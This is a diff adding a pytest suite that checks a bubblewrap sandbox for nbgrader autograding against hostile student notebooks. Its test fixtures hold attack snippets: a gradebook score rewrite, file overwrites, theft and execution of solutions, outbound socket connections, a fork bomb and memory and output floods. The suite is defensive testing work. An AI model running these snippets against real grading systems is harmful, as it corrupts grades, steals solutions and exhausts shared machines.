@@ -1,0 +1,328 @@
+"""The sandboxed grading kernel (collectives/grading/sandbox.py) against hostile notebooks.
+
+One temporary course (cost_models released). Two honest students (the spec's *correct* and
+*partial*) are autograded first; then the course's instructor files are hashed and the gradebook
+dumped, and a class of hostile students is autograded in one ``nbgrader autograde`` run:
+
+- ``gradebook``: walks up the parents of its working directory to rewrite gradebook.db;
+- ``overwrite``: overwrites source/, the configuration and another student's submission;
+- ``steal``: reads source/<assignment>/*.ipynb to execute the solutions;
+- ``network``: connects to a server of the grader's on 127.0.0.1 and to an outside address;
+- ``forkbomb``, ``memory``, ``flood``: forks without end, allocates 8 GiB, prints 50 MB;
+- ``loopback``: a correct answer that first talks to itself over 127.0.0.1 (torch gloo needs it).
+
+Each attack fails inside the sandbox and costs that student the task it sits in (0, with the
+error in the autograded notebook), the run completes, the instructor's files and every
+existing gradebook row are unchanged, and nobody reached the grader's server.
+"""
+
+import hashlib
+import json
+import os
+import socket
+import sqlite3
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import nbformat
+import pytest
+
+import assignments as specs
+import nbgrader_helpers as h
+
+from collectives.grading import sandbox
+
+ASSIGNMENT, NOTEBOOK = "cost_models", "ring_all_gather"
+FIRST = "ring_all_gather_steps"          # the solution cell the attacks sit in
+pytestmark = pytest.mark.slow
+
+SANDBOX_CONFIG = '\nc.Execute.kernel_name = "collectives-sandbox"\n'
+
+WALK_UP = "import pathlib\ncourse = pathlib.Path.cwd().parents[2]\n"
+ATTACKS = {
+    "gradebook": WALK_UP + '''
+import sqlite3
+found = [p / "gradebook.db" for p in pathlib.Path.cwd().parents if (p / "gradebook.db").exists()]
+if not found:
+    raise FileNotFoundError("no gradebook.db above " + str(pathlib.Path.cwd()))
+db = sqlite3.connect(found[0])
+db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
+db.commit()
+''',
+    "overwrite": WALK_UP + '''
+for target in [course / "source" / "cost_models" / "ring_all_gather.ipynb",
+               course / "nbgrader_config.py",
+               course / "submitted" / "correct" / "cost_models" / "ring_all_gather.ipynb",
+               course / "autograded" / "correct" / "cost_models" / "ring_all_gather.ipynb"]:
+    if not target.exists():
+        raise FileNotFoundError(f"cannot see {target.relative_to(course)}")
+    target.write_text("overwritten")
+''',
+    "steal": WALK_UP + '''
+import json
+visible = sorted(str(p.relative_to(course)) for p in course.rglob("*"))
+print("visible:", visible)
+solutions = list(course.glob("source/*/*.ipynb")) + list(course.glob("submitted/*/*/*.ipynb"))
+if not solutions:
+    raise FileNotFoundError("no solutions to steal")
+for path in solutions:
+    for cell in json.loads(path.read_text())["cells"]:
+        if cell["metadata"].get("nbgrader", {}).get("solution"):
+            exec("".join(cell["source"]))
+''',
+    "network": '''
+import socket
+for address in [("127.0.0.1", GRADER_PORT), ("192.0.2.1", 80)]:
+    try:
+        socket.create_connection(address, timeout=2).sendall(b"escaped")
+    except OSError as exc:
+        print(address, type(exc).__name__, exc)
+    else:
+        print(address, "connected")
+raise ConnectionError("no connection left the sandbox")
+''',
+    "forkbomb": '''
+import os, time
+children = 0
+try:
+    while True:
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+        children += 1
+except OSError as exc:
+    raise RuntimeError(f"fork failed after {children} children: {exc}")
+''',
+    "memory": "hog = bytearray(8 * 2**30)\n",
+    "flood": 'for _ in range(50):\n    print("x" * 10**6)\n',
+}
+LOOPBACK = '''
+import socket, threading
+server = socket.create_server(("127.0.0.1", 0))
+threading.Thread(target=lambda: server.accept()[0].sendall(b"loopback works"), daemon=True).start()
+assert socket.create_connection(server.getsockname()).recv(64) == b"loopback works"
+'''
+# the error each attack leaves in its cell (ename, text in the message)
+ATTACK_ERRORS = {
+    "gradebook": ("FileNotFoundError", "no gradebook.db above"),
+    "overwrite": ("FileNotFoundError", "cannot see source/cost_models/ring_all_gather.ipynb"),
+    "steal": ("FileNotFoundError", "no solutions to steal"),
+    "network": ("ConnectionError", "no connection left the sandbox"),
+    "forkbomb": ("RuntimeError", "fork failed after"),
+    "memory": ("MemoryError", ""),
+}
+
+
+def attack(code):
+    """A blank submission whose first solution cell is ``code``."""
+    return specs.submission(replaced={FIRST: code})
+
+
+def loopback_then_correct(source, release):
+    nb = specs.submission(solved=(FIRST,))(source, release)
+    cell = h.cells_by_id(nb)[FIRST]
+    cell.source = LOOPBACK + "\n" + cell.source
+    return nb
+
+
+def digest_tree(root, exclude=()):
+    """{relative path: sha256} of the files under ``root`` (paths under ``exclude`` left out)."""
+    root = Path(root)
+    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(root.rglob("*"))
+            if p.is_file() and not any(p.relative_to(root).parts[:len(e)] == e for e in exclude)}
+
+
+def dump_gradebook(path):
+    """{table: set of rows} of a SQLite gradebook."""
+    with sqlite3.connect(path) as db:
+        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
+        return {t: {tuple(row) for row in db.execute(f'SELECT * FROM "{t}"')} for t in tables}
+
+
+def scores(course, student):
+    """{grade_id: score} of a student's autograded notebook, from the gradebook."""
+    from nbgrader.api import Gradebook
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
+        nb = gb.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student)
+        return {g.name: g.score for g in nb.grades}
+
+
+def write_submissions(course, builders):
+    source, release = course.source(ASSIGNMENT, NOTEBOOK), course.release(ASSIGNMENT, NOTEBOOK)
+    for student, build in builders.items():
+        folder = course.root / "submitted" / student / ASSIGNMENT
+        folder.mkdir(parents=True)
+        nbformat.write(build(h.copy_of(source), h.copy_of(release)), folder / f"{NOTEBOOK}.ipynb")
+        (folder / "timestamp.txt").write_text("2026-01-15 10:00:00.000000 UTC")
+
+
+class Listener:
+    """A TCP server of the grader's on 127.0.0.1 that records whatever reaches it."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.received = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.server.accept()
+            except OSError:
+                return
+            self.received.append(conn.recv(64))
+            conn.close()
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    """The course after the honest students, then the hostile class, were autograded."""
+    sandbox.check_available()
+    course = h.Course.create(tmp_path_factory.mktemp("sandbox"), [ASSIGNMENT])
+    with open(course.root / "nbgrader_config.py", "a") as f:
+        f.write(SANDBOX_CONFIG)
+    spec = specs.load(ASSIGNMENT)
+    honest = {s: spec.submissions[s][NOTEBOOK] for s in ("correct", "partial")}
+    write_submissions(course, honest)
+    h.nbgrader(course.root, course.env, "autograde", ASSIGNMENT)
+    instructor = digest_tree(course.root, exclude=(("gradebook.db",),))
+    gradebook = dump_gradebook(course.root / "gradebook.db")
+    listener = Listener()
+    hostile = {name: attack(code.replace("GRADER_PORT", str(listener.port)))
+               for name, code in ATTACKS.items()}
+    hostile["loopback"] = loopback_then_correct
+    write_submissions(course, hostile)
+    proc = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", ASSIGNMENT],
+                          cwd=course.root, env=course.env, capture_output=True, text=True,
+                          timeout=900)
+    listener.server.close()
+    return dict(course=course, spec=spec, instructor=instructor, gradebook=gradebook,
+                listener=listener, proc=proc, hostile=sorted(hostile))
+
+
+def test_the_hostile_class_is_graded_to_the_end(graded):
+    proc = graded["proc"]
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    for student in graded["hostile"]:
+        assert (graded["course"].root / "autograded" / student / ASSIGNMENT /
+                f"{NOTEBOOK}.ipynb").is_file(), student
+
+
+def test_instructor_files_and_other_students_are_byte_for_byte_unchanged(graded):
+    course = graded["course"]
+    after = digest_tree(course.root, exclude=(("gradebook.db",),) + tuple(
+        (folder, s) for folder in ("submitted", "autograded") for s in graded["hostile"]))
+    assert after == graded["instructor"]
+
+
+def test_no_existing_gradebook_row_changed(graded):
+    before = graded["gradebook"]
+    after = dump_gradebook(graded["course"].root / "gradebook.db")
+    for table, rows in before.items():
+        assert rows <= after[table], (table, sorted(rows - after[table])[:3])
+
+
+def test_honest_scores_are_exact(graded):
+    spec, course = graded["spec"], graded["course"]
+    for student in ("correct", "partial"):
+        assert scores(course.root, student) == spec.expected[student][NOTEBOOK], student
+
+
+@pytest.mark.parametrize("student", sorted(ATTACK_ERRORS))
+def test_each_attack_fails_with_its_error_and_scores_zero(graded, student):
+    course = graded["course"]
+    assert scores(course.root, student) == dict.fromkeys(graded["spec"].points[NOTEBOOK], 0)
+    nb = h.read(course.root / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
+    errors = [(o.ename, o.evalue) for o in h.error_outputs(h.cells_by_id(nb)[FIRST])]
+    ename, text = ATTACK_ERRORS[student]
+    assert len(errors) == 1 and errors[0][0] == ename and text in errors[0][1], errors
+
+
+def test_nothing_reached_the_graders_server(graded):
+    nb = h.read(graded["course"].root / "autograded" / "network" / ASSIGNMENT /
+                f"{NOTEBOOK}.ipynb")
+    printed = h.printed(nb)
+    assert "ConnectionRefusedError" in printed and "Network is unreachable" in printed, printed
+    assert "connected" not in printed
+    assert graded["listener"].received == []
+
+
+def test_the_sandbox_shows_only_the_students_own_folder(graded):
+    nb = h.read(graded["course"].root / "autograded" / "steal" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
+    visible = h.printed(nb)
+    assert "visible: ['autograded', 'autograded/steal', 'autograded/steal/cost_models'" in visible
+    assert "gradebook" not in visible and "source" not in visible and "'submitted" not in visible
+
+
+def test_output_flood_is_cut_with_a_note(graded):
+    path = (graded["course"].root / "autograded" / "flood" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
+    assert path.stat().st_size < 2 * sandbox.LIMITS.output_bytes
+    assert "the rest of its output is dropped" in h.printed(h.read(path))
+    assert scores(graded["course"].root, "flood") == dict.fromkeys(
+        graded["spec"].points[NOTEBOOK], 0)
+
+
+def test_loopback_works_inside_the_sandbox(graded):
+    expected = dict.fromkeys(graded["spec"].points[NOTEBOOK], 0)
+    expected["test_" + FIRST] = graded["spec"].points[NOTEBOOK]["test_" + FIRST]
+    assert scores(graded["course"].root, "loopback") == expected
+
+
+# ---- without bwrap ------------------------------------------------------------------------------
+
+def test_snapshot_refuses_a_changed_copy(tmp_path):
+    package = tmp_path / "pkg"
+    (package / "sub").mkdir(parents=True)
+    (package / "__init__.py").write_text("x = 1\n")
+    (package / "sub" / "m.py").write_text("y = 2\n")
+    snap = sandbox.PackageSnapshot(package)
+    snap.verify()
+    target = snap.root / "collectives" / "sub" / "m.py"
+    target.chmod(0o644)
+    target.write_text("y = 3\n")
+    with pytest.raises(sandbox.SandboxError, match=r"copy of the collectives package changed "
+                                                    r"\(sub/m.py\)"):
+        snap.verify()
+    target.write_text("y = 2\n")
+    snap.verify()
+    (package / "__init__.py").write_text("x = 2\n")
+    with pytest.raises(sandbox.SandboxError, match="installed collectives package changed"):
+        snap.verify()
+
+
+def test_grading_refuses_to_start_without_bwrap_unless_opted_out(tmp_path):
+    """A kernel of the sandbox's spec does not start when bwrap is missing; it does with the
+    explicit opt-out."""
+    code = ("import asyncio, sys\n"
+            "from jupyter_client.manager import AsyncKernelManager\n"
+            "async def main():\n"
+            "    km = AsyncKernelManager(kernel_name='collectives-sandbox')\n"
+            "    try:\n"
+            "        await km.start_kernel()\n"
+            "    except Exception as exc:\n"
+            "        print('REFUSED', exc); return\n"
+            "    print('STARTED'); await km.shutdown_kernel(now=True)\n"
+            "asyncio.run(main())\n")
+    env = h.nbgrader_env(tmp_path)
+    env["COLLECTIVES_BWRAP"] = str(tmp_path / "no-such-bwrap")
+    proc = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True,
+                          text=True, timeout=120)
+    assert "REFUSED the grading sandbox cannot run: bubblewrap" in proc.stdout, proc
+    assert "COLLECTIVES_GRADING_SANDBOX=off" in proc.stdout
+    env[sandbox.OPT_OUT] = "off"
+    proc = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True,
+                          text=True, timeout=120)
+    assert "STARTED" in proc.stdout, proc
+
+
+def test_kernel_spec_names_the_sandbox_provisioner():
+    from jupyter_client.kernelspec import KernelSpecManager
+    spec = KernelSpecManager().get_kernel_spec(sandbox.KERNEL_NAME)
+    assert spec.metadata["kernel_provisioner"]["provisioner_name"] == sandbox.KERNEL_NAME
+    assert spec.interrupt_mode == "message"
+    json.dumps(spec.to_dict())
+    assert os.path.basename(spec.argv[0]).startswith("python")
